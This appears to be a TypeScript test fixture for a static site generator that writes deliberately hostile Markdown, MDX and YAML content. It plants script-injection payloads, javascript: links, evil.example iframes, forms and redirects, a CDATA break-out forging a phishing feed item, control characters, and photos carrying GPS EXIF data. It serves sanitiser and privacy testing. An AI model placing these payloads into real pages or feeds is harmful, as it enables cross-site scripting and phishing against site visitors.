// A site written by an attacker and a careless editor: every payload of the corpus in Markdown and MDX bodies,
// control characters and ]]> in titles, summaries, topics and a township's name, and phone photos with a GPS
// position as cover, portrait, gallery and body images.
import { execFileSync } from 'node:child_process';
import { appendFileSync } from 'node:fs';
import { join } from 'node:path';
import sharp from 'sharp';
import { tempSite, type TempSite } from '../fixtures/temp-site';
import { CORPUS } from './corpus';

/** Where the planted photos claim to have been taken. */
export const GPS = { latitude: 28.123456, longitude: 112.654321 };

/** A JPEG with EXIF camera data and a GPS position, as a phone writes it. */
export async function gpsPhoto(path: string, seed: number): Promise<void> {
  const jpeg = await sharp({ create: { width: 1600, height: 1200, channels: 3, background: { r: 40 + seed * 30, g: 120, b: 90 } } })
    .jpeg({ quality: 90 })
    .toBuffer();
  const { writeFileSync } = await import('node:fs');
  writeFileSync(path, jpeg);
  execFileSync('exiftool', [
    '-q',
    '-overwrite_original',
    `-GPSLatitude=${GPS.latitude}`,
    '-GPSLatitudeRef=N',
    `-GPSLongitude=${GPS.longitude}`,
    '-GPSLongitudeRef=E',
    '-Make=TestPhone',
    '-Model=Leaky 1',
    '-DateTimeOriginal=2026:01:01 08:00:00',
    '-XMP:Creator=家长手机',
    path,
  ]);
}

export const HOSTILE_TITLE = '恶意\u0001标题\u000b含<控制>字符\uFFFE';
export const FORGED_SUMMARY =
  '摘要]]></description></item><item><title>假冒通知</title><link>https://evil.example/phish</link><description><![CDATA[点此领补贴';

/** Writes the hostile content folder; returns the site and the paths of the planted photos. */
export async function hostileSite(): Promise<{ site: TempSite; photos: string[] }> {
  const site = tempSite('ggw-hostile-');
  appendFileSync(
    join(site.root, 'content/townships.yaml'),
    '\n- id: eyi\n  name: "恶<意>&乡]]>\\v"\n  kind: 乡\n  order: 99\n  intro: "简介<script>PWNED()</script>]]>"\n  villages:\n    - { id: cun, name: "<b>村</b>\\u0001", kind: 村 }\n',
  );
  const body = CORPUS.map((p) => p.html).join('\n\n');
  const photos: string[] = [];
  const photo = async (file: string, seed: number) => {
    const path = join(site.root, file);
    site.write(file, '');
    await gpsPhoto(path, seed);
    photos.push(path);
  };
  await photo('content/news/2026/gps-cover.jpg', 1);
  await photo('content/news/2026/gps-body.jpg', 2);
  await photo('content/stories/2026-01-hostile/1.jpg', 3);
  await photo('content/stories/2026-01-hostile/2.jpg', 4);
  await photo('content/people/gps-portrait.jpg', 5);
  const yamlString = (s: string) => JSON.stringify(s);
  site.write(
    'content/news/2026/2026-01-05-hostile.md',
    `---\ntitle: ${yamlString(HOSTILE_TITLE)}\ndate: 2026-01-05\ntownship: eyi\nvillage: cun\nauthor: "作者<i>\\u0001"\n` +
      `topics: ["<script>PWNED()</script>", "a<b&c]]>", "控制\\v字符"]\ncover: ./gps-cover.jpg\ncoverAlt: "封面\\u0001<b>"\n` +
      `summary: ${yamlString(FORGED_SUMMARY)}\n---\n\n正文开头。\n\n![带位置的照片](./gps-body.jpg)\n\n<a href="//[bad">坏链接</a>\n\n${body}\n`,
  );
  site.write(
    'content/news/2026/2026-01-06-hostile-mdx.mdx',
    `---\ntitle: MDX 稿件\ndate: 2026-01-06\ntownship: eyi\nsummary: "MDX]]>摘要"\n---\n\nMDX 正文。\n\n` +
      '<a href="javascript:PWNED()">mdx 链接</a>\n\n<img src="x" onerror="PWNED()" alt="mdx" />\n\n' +
      '<font><meta httpEquiv="refresh" content="0;url=https://evil.example/mdx" /></font>\n\n' +
      '<iframe src="https://evil.example/mdx-frame"></iframe>\n\n<a href="java&#x09;script:PWNED()">mdx tab</a>\n\n' +
      '<form action="https://evil.example/mdx-form"><button>提交</button></form>\n\n<object data="javascript:PWNED()"></object>\n\n' +
      '<div style={{ position: "fixed" }} onClick="PWNED()">mdx div</div>\n',
  );
  site.write(
    'content/stories/2026-01-hostile/index.md',
    `---\ntitle: "活动<script>PWNED()</script>]]>"\ndate: 2026-01-10\ntownships: [eyi]\ngallery:\n  - image: ./1.jpg\n    caption: "图<b>说\\u0001"\n  - image: ./2.jpg\n    alt: 孩子们\nsummary: ${yamlString(FORGED_SUMMARY)}\n---\n\n${body}\n`,
  );
  site.write(
    'content/people/hostile.md',
    `---\nname: "王<b>某\\u0001"\ncategory: 老教师\ntownship: eyi\nactiveSince: 2000\nportrait: ./gps-portrait.jpg\nquote: "]]><x>"\n---\n\n${body}\n`,
  );
  site.write(
    'content/bulletins/2026-01.md',
    `---\nissue: 1\nmonth: 2026-01\ndate: 2026-01-30\neditor: "编辑<i>\\u0001"\ncontents:\n  - section: "工作<动态>]]>"\n    items: [news/2026-01-05-hostile, news/2026-01-06-hostile-mdx]\n  - section: 活动纪实\n    items: [stories/2026-01-hostile]\n---\n\n编者按：表扬 👍🎉👨‍👩‍👧 一家人。\n\n${body}\n`,
  );
  return { site, photos };
}
